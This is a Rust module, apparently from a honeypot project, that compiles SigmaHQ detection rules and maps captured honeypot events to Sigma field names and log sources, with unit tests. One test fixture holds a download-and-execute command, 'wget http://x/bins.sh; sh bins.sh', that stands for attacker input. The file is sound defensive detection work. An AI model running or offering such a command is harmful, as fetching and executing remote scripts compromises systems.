//! SigmaHQ rules (`type: sigma`), evaluated by `rsigma-eval` against each event mapped to
//! the field names Sigma rules use (`docs/alerting.md` has the whole mapping):
//!
//! | hpti kind | logsource | fields (besides every hpti field: `src_ip`, `data.command`, ...) |
//! | --- | --- | --- |
//! | `command.input` | `product: linux`, `category: process_creation` | `CommandLine`, `Image` (the first word), `User` (`root`) |
//! | `login.attempt` | `product: linux`, `service: sshd` (SSH) or `telnet` | `User`, `TargetUserName`, `Password`, `AuthenticationMethod`, `Outcome` (`success`, `failure`) |
//! | `file.download` | `product: linux`, `category: proxy` | `c-uri`, `sha256`, `Hashes` (`SHA256=...`) |
//! | `file.upload` | `product: linux`, `category: file_event` | `TargetFilename`, `sha256`, `Hashes` |
//! | `http.request` | `category: webserver` | `cs-method`, `c-uri`, `cs-host`, `cs-user-agent`, `sc-status` |
//! | anything else | `product: hpti`, `category: <kind>` | `version`, `hassh` and the hpti fields |
//!
//! Every event also has `SourceIp`, `SourcePort`, `DestinationIp` and `DestinationPort`.

use std::borrow::Cow;
use std::path::{Path, PathBuf};

use hpti_core::Event;
use hpti_core::alert::Severity;
use hpti_core::event::{EventKind, Protocol};
use rsigma_eval::{Engine, EventValue, JsonEvent};
use rsigma_parser::{Level, LogSource};
use serde_json::{Map, Value};

/// A matched Sigma rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SigmaMatch {
    /// Its title.
    pub title: String,
    /// Its id, if it has one.
    pub id: Option<String>,
    /// Its level as an hpti severity (`medium` when it has none).
    pub severity: Severity,
}

/// Sigma rules compiled into one engine.
pub struct SigmaRules {
    engine: Engine,
    files: Vec<PathBuf>,
    /// Whether some rule reads a field of hpti's own event (or every field: keywords,
    /// field references, filters), so that events are given in full, not only the
    /// fields mapped to Sigma's names.
    needs_raw: bool,
}

impl std::fmt::Debug for SigmaRules {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("SigmaRules")
            .field("rules", &self.engine.rule_count())
            .field("files", &self.files)
            .finish()
    }
}

/// A Sigma file that cannot be used: the file, the line when known, why.
#[derive(Debug, Clone)]
pub struct SigmaError {
    /// The file.
    pub file: PathBuf,
    /// The line, when the parser says.
    pub line: Option<usize>,
    /// What is wrong.
    pub message: String,
}

impl SigmaRules {
    /// Reads and compiles the Sigma rules of `files`; correlation rules are refused (the
    /// hpti rule types count and group).
    pub fn load(files: &[PathBuf]) -> Result<Self, SigmaError> {
        let mut engine = Engine::new();
        let mut needs_raw = false;
        for file in files {
            let bad = |line: Option<usize>, message: String| SigmaError {
                file: file.clone(),
                line,
                message,
            };
            let text = std::fs::read_to_string(file)
                .map_err(|e| bad(None, format!("cannot read: {e}")))?;
            let collection = rsigma_parser::parse_sigma_yaml(&text).map_err(|e| {
                let line = match &e {
                    rsigma_parser::SigmaParserError::Condition(_, Some(at)) => {
                        Some(at.line as usize)
                    }
                    _ => None,
                };
                bad(line, e.to_string())
            })?;
            if let Some(error) = collection.errors.first() {
                return Err(bad(None, error.clone()));
            }
            if !collection.correlations.is_empty() {
                return Err(bad(
                    None,
                    "Sigma correlation rules are not supported: count with an hpti rule (frequency, cardinality)".into(),
                ));
            }
            if collection.rules.is_empty() {
                return Err(bad(
                    None,
                    "no Sigma rule in this file (a rule has `detection:`)".into(),
                ));
            }
            let mut fields = std::collections::BTreeSet::new();
            let named_only = collection.filters.is_empty()
                && collection.rules.iter().all(|rule| {
                    rule.detection
                        .named
                        .values()
                        .all(|d| detection_fields(d, &mut fields))
                });
            needs_raw |= !named_only
                || fields
                    .iter()
                    .any(|f| !MAPPED.iter().any(|m| m.eq_ignore_ascii_case(f)));
            engine
                .add_collection(&collection)
                .map_err(|e| bad(None, format!("cannot compile: {e}")))?;
        }
        Ok(Self {
            engine,
            files: files.to_vec(),
            needs_raw,
        })
    }

    /// Rules compiled.
    pub fn len(&self) -> usize {
        self.engine.rule_count()
    }

    /// Whether there are none.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Whether the rules need events with hpti's own fields too, not only the ones
    /// mapped to Sigma's names.
    pub fn needs_raw(&self) -> bool {
        self.needs_raw
    }

    /// The rules that match `event` (from `source`).
    pub fn matches(&self, event: &SigmaEvent<'_>, source: &LogSource) -> Vec<SigmaMatch> {
        self.engine
            .evaluate_with_logsource(event, source)
            .into_iter()
            .map(|result| SigmaMatch {
                severity: match result.header.level {
                    Some(Level::Informational) => Severity::Informational,
                    Some(Level::Low) => Severity::Low,
                    Some(Level::High) => Severity::High,
                    Some(Level::Critical) => Severity::Critical,
                    Some(Level::Medium) | None => Severity::Medium,
                },
                title: result.header.rule_title,
                id: result.header.rule_id,
            })
            .collect()
    }
}

/// Whether `text` is a SigmaHQ rule (it has a top-level `detection:`).
pub fn is_sigma(text: &str) -> bool {
    text.lines().any(|l| l.starts_with("detection:"))
}

fn logsource(product: Option<&str>, category: Option<&str>, service: Option<&str>) -> LogSource {
    LogSource {
        product: product.map(str::to_owned),
        category: category.map(str::to_owned),
        service: service.map(str::to_owned),
        ..LogSource::default()
    }
}

/// The Sigma field names [`SigmaEvent`] maps hpti's events to.
const MAPPED: &[&str] = &[
    "SourceIp",
    "SourcePort",
    "DestinationIp",
    "DestinationPort",
    "CommandLine",
    "Image",
    "User",
    "TargetUserName",
    "Password",
    "AuthenticationMethod",
    "Outcome",
    "c-uri",
    "sha256",
    "Hashes",
    "TargetFilename",
    "cs-method",
    "cs-host",
    "cs-user-agent",
    "sc-status",
    "version",
    "hassh",
];

/// Adds the field names a detection reads to `fields`; false if it may read any field
/// (keywords, field references, array quantifiers).
fn detection_fields(
    detection: &rsigma_parser::Detection,
    fields: &mut std::collections::BTreeSet<String>,
) -> bool {
    use rsigma_parser::{Detection, Modifier};
    match detection {
        Detection::AllOf(items) => items.iter().all(|item| match &item.field.name {
            Some(name) if !item.field.modifiers.contains(&Modifier::FieldRef) => {
                fields.insert(name.clone());
                true
            }
            _ => false,
        }),
        Detection::AnyOf(detections) => detections.iter().all(|d| detection_fields(d, fields)),
        _ => false,
    }
}

/// An event as Sigma rules see it: Sigma's field names read from the event when a rule
/// asks (nothing is built per event), and beneath them, when `raw`, its own JSON form.
pub struct SigmaEvent<'a> {
    event: &'a Event,
    addresses: Addresses<'a>,
    raw: Option<JsonEvent<'a>>,
}

/// The event's addresses as text: given, or formatted by the view only if a rule reads
/// them (formatting two addresses cost more than evaluating 50 rules that never do).
enum Addresses<'a> {
    Given {
        src_ip: &'a str,
        dst_ip: Option<&'a str>,
    },
    View(&'a super::field::EventView<'a>),
}

impl<'a> Addresses<'a> {
    fn src_ip(&self) -> &'a str {
        match self {
            Self::Given { src_ip, .. } => src_ip,
            Self::View(view) => view.src_ip_text(),
        }
    }

    fn dst_ip(&self) -> Option<&'a str> {
        match self {
            Self::Given { dst_ip, .. } => *dst_ip,
            Self::View(view) => view.dst_ip_text(),
        }
    }
}

impl<'a> SigmaEvent<'a> {
    /// `event` mapped to Sigma's names; `src_ip` and `dst_ip` as text, and the event's
    /// JSON form when the rules read hpti's own fields too.
    pub fn new(
        event: &'a Event,
        src_ip: &'a str,
        dst_ip: Option<&'a str>,
        raw: Option<&'a Value>,
    ) -> Self {
        Self {
            event,
            addresses: Addresses::Given { src_ip, dst_ip },
            raw: raw.map(JsonEvent::borrow),
        }
    }

    /// The event of `view`, its addresses formatted (once, by the view) only if read.
    pub(crate) fn from_view(view: &'a super::field::EventView<'a>, raw: Option<&'a Value>) -> Self {
        Self {
            event: view.event_ref(),
            addresses: Addresses::View(view),
            raw: raw.map(JsonEvent::borrow),
        }
    }

    /// The Sigma field `name`, if the event has it.
    fn mapped(&self, name: &str) -> Option<EventValue<'a>> {
        let event = self.event;
        let text = |s: &'a str| Some(EventValue::Str(Cow::Borrowed(s)));
        let port = |p: Option<u16>| p.map(|p| EventValue::Int(i64::from(p)));
        match name {
            "SourceIp" => return text(self.addresses.src_ip()),
            "SourcePort" => return port(event.src_port),
            "DestinationIp" => return self.addresses.dst_ip().and_then(text),
            "DestinationPort" => return port(event.dst_port),
            _ => {}
        }
        let hashes = |sha: &Option<String>| {
            sha.as_ref()
                .map(|s| EventValue::Str(Cow::Owned(format!("SHA256={s}"))))
        };
        match (&event.kind, name) {
            (EventKind::CommandInput { command }, "CommandLine") => text(command),
            (EventKind::CommandInput { command }, "Image") => {
                text(command.split_whitespace().next().unwrap_or_default())
            }
            (EventKind::CommandInput { .. }, "User") => text("root"),
            (EventKind::LoginAttempt { username, .. }, "User" | "TargetUserName") => text(username),
            (EventKind::LoginAttempt { password, .. }, "Password") => {
                password.as_deref().and_then(text)
            }
            (EventKind::LoginAttempt { method, .. }, "AuthenticationMethod") => {
                text(method.as_str())
            }
            (EventKind::LoginAttempt { success, .. }, "Outcome") => {
                text(if *success { "success" } else { "failure" })
            }
            (EventKind::FileDownload { url, .. }, "c-uri") => text(url),
            (EventKind::FileDownload { sha256, .. } | EventKind::FileUpload { sha256, .. }, _)
                if name == "sha256" =>
            {
                sha256.as_deref().and_then(text)
            }
            (EventKind::FileDownload { sha256, .. } | EventKind::FileUpload { sha256, .. }, _)
                if name == "Hashes" =>
            {
                hashes(sha256)
            }
            (EventKind::FileUpload { filename, .. }, "TargetFilename") => text(filename),
            (EventKind::HttpRequest { method, .. }, "cs-method") => text(method),
            (EventKind::HttpRequest { uri, .. }, "c-uri") => text(uri),
            (EventKind::HttpRequest { host, .. }, "cs-host") => host.as_deref().and_then(text),
            (EventKind::HttpRequest { user_agent, .. }, "cs-user-agent") => {
                user_agent.as_deref().and_then(text)
            }
            (EventKind::HttpRequest { status, .. }, "sc-status") => {
                status.map(|s| EventValue::Int(i64::from(s)))
            }
            (EventKind::ClientVersion { version }, "version") => text(version),
            (
                EventKind::ClientFingerprint {
                    method,
                    fingerprint,
                    ..
                },
                "hassh",
            ) if method == "hassh" => text(fingerprint),
            _ => None,
        }
    }

    /// The Sigma fields the event has, with their values.
    fn mapped_fields(&self) -> impl Iterator<Item = (&'static str, EventValue<'a>)> + '_ {
        MAPPED
            .iter()
            .filter_map(|name| Some((*name, self.mapped(name)?)))
    }
}

impl rsigma_eval::Event for SigmaEvent<'_> {
    fn get_field(&self, path: &str) -> Option<EventValue<'_>> {
        if let Some(value) = self.mapped(path) {
            return Some(value);
        }
        self.raw.as_ref()?.get_field(path)
    }

    fn any_string_value(&self, pred: &dyn Fn(&str) -> bool) -> bool {
        let mut found = false;
        self.visit_string_values(&mut |s| found = found || pred(s));
        found
    }

    fn all_string_values(&self) -> Vec<Cow<'_, str>> {
        let mut values: Vec<Cow<'_, str>> = Vec::new();
        for (_, value) in self.mapped_fields() {
            if let EventValue::Str(s) = value {
                values.push(Cow::Owned(s.into_owned()));
            }
        }
        if let Some(raw) = &self.raw {
            values.extend(raw.all_string_values());
        }
        values
    }

    fn visit_string_values(&self, visit: &mut dyn FnMut(&str)) {
        for (_, value) in self.mapped_fields() {
            if let EventValue::Str(s) = value {
                visit(&s);
            }
        }
        if let Some(raw) = &self.raw {
            raw.visit_string_values(visit);
        }
    }

    fn to_json(&self) -> Value {
        let mut fields = match self.raw.as_ref().map(rsigma_eval::Event::to_json) {
            Some(Value::Object(map)) => map,
            _ => Map::new(),
        };
        for (name, value) in self.mapped_fields() {
            fields.insert(name.to_owned(), value.to_json());
        }
        Value::Object(fields)
    }
}

/// The logsource of `event`, by its kind (the table at the top of this file).
pub fn sigma_logsource(event: &Event) -> LogSource {
    match &event.kind {
        EventKind::CommandInput { .. } => logsource(Some("linux"), Some("process_creation"), None),
        EventKind::LoginAttempt { .. } => {
            let service = match event.protocol {
                Protocol::Ssh => "sshd",
                _ => event.protocol.as_str(),
            };
            logsource(Some("linux"), None, Some(service))
        }
        EventKind::FileDownload { .. } => logsource(Some("linux"), Some("proxy"), None),
        EventKind::FileUpload { .. } => logsource(Some("linux"), Some("file_event"), None),
        EventKind::HttpRequest { .. } => logsource(None, Some("webserver"), None),
        other => logsource(Some("hpti"), Some(other.name()), None),
    }
}

/// The Sigma files `patterns` name, relative to `dir`.
pub fn sigma_files(patterns: &[String], dir: &Path) -> Result<Vec<PathBuf>, String> {
    let mut files = Vec::new();
    for pattern in patterns {
        let full = if Path::new(pattern).is_absolute() {
            PathBuf::from(pattern)
        } else {
            dir.join(pattern)
        };
        let paths = glob::glob(&full.to_string_lossy()).map_err(|e| format!("`{pattern}`: {e}"))?;
        let before = files.len();
        for path in paths.flatten() {
            if path.is_file() {
                files.push(path);
            }
        }
        if files.len() == before {
            return Err(format!("`{pattern}` names no file"));
        }
    }
    files.sort();
    files.dedup();
    Ok(files)
}

#[cfg(test)]
mod tests {
    use super::*;
    use hpti_core::event::AuthMethod;
    use rsigma_eval::Event as _;

    fn events() -> Vec<Event> {
        let ip = "203.0.113.7".parse().unwrap();
        let make = |kind| {
            Event::new("ssh-1", Protocol::Ssh, ip, kind)
                .with_source_port(40022)
                .with_destination("192.0.2.10".parse().unwrap(), 22)
        };
        vec![
            make(EventKind::CommandInput {
                command: "wget http://x/bins.sh; sh bins.sh".into(),
            }),
            make(EventKind::LoginAttempt {
                username: "root".into(),
                password: Some("admin".into()),
                method: AuthMethod::Password,
                key_type: None,
                key_fingerprint: None,
                success: true,
            }),
            make(EventKind::FileDownload {
                url: "http://x/bins.sh".into(),
                sha256: Some("ab".repeat(32)),
                size: Some(10),
                error: None,
            }),
            make(EventKind::ClientVersion {
                version: "SSH-2.0-Go".into(),
            }),
            make(EventKind::SessionStarted),
        ]
    }

    /// An event seen through a rule's view reads the same as one given its addresses.
    #[test]
    fn an_event_from_a_view_reads_as_one_given_its_addresses() {
        for event in events() {
            let event = event.with_destination(std::net::IpAddr::from([192, 0, 2, 10]), 22);
            let view = super::super::field::EventView::new(&event);
            let src = event.src_ip.to_string();
            let given = SigmaEvent::new(&event, &src, Some("192.0.2.10"), None);
            let from_view = view.sigma(false);
            for name in MAPPED {
                assert_eq!(from_view.get_field(name), given.get_field(name), "{name}");
            }
            assert_eq!(
                from_view
                    .get_field("DestinationIp")
                    .and_then(|v| v.as_str().map(Cow::into_owned))
                    .as_deref(),
                Some("192.0.2.10")
            );
        }
    }

    /// The fields read one by one are the fields of the materialized form, raw or not,
    /// and a sample of them reads as the mapping table says.
    #[test]
    fn the_lazy_event_reads_as_its_json_form() {
        for event in events() {
            let json = serde_json::to_value(&event).unwrap();
            for raw in [None, Some(&json)] {
                let lazy = SigmaEvent::new(&event, "203.0.113.7", Some("192.0.2.10"), raw);
                let whole = lazy.to_json();
                let eager = JsonEvent::borrow(&whole);
                let mut names: Vec<String> = MAPPED.iter().map(|s| (*s).to_owned()).collect();
                names.extend(
                    ["src_ip", "kind", "data.command", "data.username", "nope"].map(String::from),
                );
                for name in &names {
                    assert_eq!(
                        lazy.get_field(name),
                        eager.get_field(name),
                        "{name} of {} (raw: {})",
                        event.kind.name(),
                        raw.is_some()
                    );
                }
                let mut lazy_strings: Vec<String> = lazy
                    .all_string_values()
                    .into_iter()
                    .map(Cow::into_owned)
                    .collect();
                let mut eager_strings: Vec<String> = eager
                    .all_string_values()
                    .into_iter()
                    .map(Cow::into_owned)
                    .collect();
                lazy_strings.sort();
                eager_strings.sort();
                if raw.is_none() {
                    assert_eq!(lazy_strings, eager_strings, "{}", event.kind.name());
                } else {
                    // Beneath the mapped fields the event's own repeat some values.
                    for s in &eager_strings {
                        assert!(lazy_strings.contains(s), "{s}");
                    }
                }
            }
        }
        let all = events();
        let view = |e| SigmaEvent::new(e, "203.0.113.7", None, None);
        let text = |v: Option<EventValue<'_>>| v.and_then(|v| v.as_str().map(Cow::into_owned));
        assert_eq!(
            text(view(&all[0]).get_field("Image")).as_deref(),
            Some("wget")
        );
        assert_eq!(
            text(view(&all[1]).get_field("Outcome")).as_deref(),
            Some("success")
        );
        assert_eq!(
            text(view(&all[2]).get_field("Hashes")),
            Some(format!("SHA256={}", "ab".repeat(32)))
        );
        assert_eq!(view(&all[1]).get_field("DestinationIp"), None);
        assert_eq!(sigma_logsource(&all[1]).service.as_deref(), Some("sshd"));
        assert_eq!(
            sigma_logsource(&all[3]).category.as_deref(),
            Some("client.version")
        );
    }
}
